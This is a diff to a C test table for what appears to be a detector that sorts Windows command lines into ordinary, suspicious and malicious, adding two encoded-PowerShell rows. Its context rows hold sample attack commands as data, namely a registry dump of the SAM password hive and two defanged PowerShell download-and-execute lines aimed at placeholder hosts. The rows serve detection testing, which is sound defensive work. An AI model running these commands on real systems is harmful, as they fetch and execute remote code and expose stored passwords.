@@ -70,6 +70,8 @@ static const struct { const char *line; int stored, ran; const char *why; } rows
     { "vssadmin list shadows", ORD, ORD, "only asks" },
     { "\\\\files01\\deploy\\setup.exe /q", LOOK, LOOK, "from another computer" },
     { "reg save HKLM\\SAM C:\\backup\\sam.hiv", LOOK, LOOK, "a hive with passwords" },
+    { "powershell.exe -enc AAAA", LOOK, LOOK, "encoded, too short to say anything" },
+    { "powershell.exe -e notes.txt", ORD, ORD, "no base64" },
     /* What nobody honest stores. */
     { "power@shell.exe -nop -w hidden -c \"I@EX (New-Object Net.Web@Client).Download@String('http://p.example.net/a')\"", ACC, ACC, "fetched and run" },
     { "power@shell -w 1 -e {i@ex (i@wr http://cdn.example.net/u.txt -UseBasicParsing)}", ACC, ACC, "the same, encoded" },
